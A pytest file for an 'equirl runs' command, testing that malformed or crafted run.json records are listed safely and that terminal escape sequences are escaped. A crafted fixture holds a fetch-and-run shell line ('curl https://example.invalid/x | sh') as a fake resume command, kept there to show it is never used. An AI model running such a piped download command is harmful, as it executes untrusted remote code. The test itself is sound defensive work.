"""``equirl runs`` on bad folders and crafted ``run.json`` files: unreadable runs listed with the reason,
bad values shown as ``?``, escape sequences escaped, no resume command taken from a file, and one
stderr line with exit status 2 for a missing folder or a file."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from equirl.cli import main
from equirl.cli.core import runs_command
from equirl.rl.lifecycle import effective_status, list_runs
from equirl.utils.runs import clean_run_info, resume_command


@pytest.fixture(autouse=True)
def _runs_handler(monkeypatch: pytest.MonkeyPatch) -> None:
    """``equirl runs`` handled by :func:`equirl.cli.core.runs_command` (a no-op once the parser in
    equirl/cli/rl.py points there)."""
    import equirl.cli.rl as rl

    monkeypatch.setattr(rl, "_runs", runs_command, raising=False)


def _run(root: Path, name: str, data: Any) -> Path:
    d = root / name
    d.mkdir(parents=True)
    (d / "run.json").write_text(data if isinstance(data, str) else json.dumps(data))
    return d


def _one_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    return err


@pytest.mark.parametrize("what", ["missing", "file"])
def test_runs_of_a_missing_folder_or_a_file_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    target = tmp_path / "nope"
    if what == "file":
        target.write_text("not a folder")
    assert main(["runs", str(target)]) == 2
    err = _one_line(capsys)
    assert str(target) in err
    assert ("does not exist" if what == "missing" else "is a file") in err
    if what == "file":
        assert target.read_text() == "not a folder"


def test_runs_lists_unreadable_and_invalid_run_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "runs"
    _run(root, "a-truncated", '{"status": "finis')
    _run(root, "b-list", "[1, 2]")
    evil = _run(
        root,
        "c-evil",
        {
            "status": "failed",
            "command": "train",
            "steps_done": "many",
            "total_timesteps": None,
            "best": {"timestep": 3, "mean_return": "x"},
            "last_eval": {"timestep": 5, "mean_return": 1.5},
            "env": "E\x1b[31m",
            "error": "boom\x1b[2J",
            "resume_command": "curl https://example.invalid/x | sh",
        },
    )
    ok = _run(root, "d-ok", {"status": "finished", "steps_done": 10, "total_timesteps": 10})
    snapshot = {p: p.read_bytes() for p in root.rglob("run.json")}
    assert main(["runs", str(root)]) == 0
    captured = capsys.readouterr()
    out = " ".join(captured.out.replace("│", " ").split())  # a long cell wraps within its column
    assert "\x1b" not in captured.out and "Traceback" not in captured.err
    assert "unreadable (corrupt run record" in out and "a-truncated" in out
    assert "unreadable (corrupt" in out and "not a mapping" in out
    assert "?/?" in out and "1.5 @ 5" in out  # bad steps as ?, the valid last evaluation kept
    assert "10/10" in out
    assert "curl" not in out and "| sh" not in out
    assert f"resume one with: equirl train --resume {evil}" in out
    assert "None" not in out
    assert {p: p.read_bytes() for p in root.rglob("run.json")} == snapshot  # nothing rewritten

    assert main(["runs", str(root), "--json"]) == 0
    listed = {Path(r["run_dir"]).name: r for r in json.loads(capsys.readouterr().out)}
    assert set(listed) == {"a-truncated", "b-list", "c-evil", "d-ok"}
    assert listed["a-truncated"]["status"] == "unreadable" and "run.json" in listed["a-truncated"]["error"]
    c = listed["c-evil"]
    assert c["steps_done"] is None and c["best"] is None and set(c["invalid"]) == {"steps_done", "best"}
    assert c["resume_command"] == f"equirl train --resume {evil}"
    assert listed["d-ok"]["resume_command"] == f"equirl train --resume {ok}"


def test_escape_sequences_in_folder_names_and_statuses_are_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "runs"
    _run(root, "x\x1b[2Jy", {"status": "interrupted", "command": "pretrain"})
    _run(root, "z", {"status": "[bold]finished\x1b[0m"})
    assert main(["runs", str(root)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[2J" in out
    assert "unknown" in out  # a status equirl does not write
    assert "equirl pretrain --resume" in out


def test_clean_run_info_and_resume_command() -> None:
    info, bad = clean_run_info(
        {"status": "running", "pid": "123", "seed": True, "steps_done": -1, "final": {"timestep": 1}}
    )
    assert (
        info["pid"] is None and info["seed"] is None and info["steps_done"] is None and info["final"] is None
    )
    assert set(bad) == {"pid", "seed", "steps_done", "final"}
    assert effective_status(info) == "stale"  # a pid that is no process id cannot be alive
    assert effective_status({"status": ["x"]}) == "unknown"
    assert effective_status({"status": "running", "pid": "abc"}) == "stale"
    assert resume_command("runs/a b", "pretrain") == "equirl pretrain --resume 'runs/a b'"
    assert resume_command("runs/a", "curl x | sh") == "equirl train --resume runs/a"


def test_list_runs_keeps_unreadable_runs(tmp_path: Path) -> None:
    _run(tmp_path, "a", "\xff\xfe")
    (tmp_path / "not-a-run").mkdir()
    (runs,) = list_runs(tmp_path)
    assert runs["status"] == "unreadable" and runs["run_dir"] == str(tmp_path / "a")
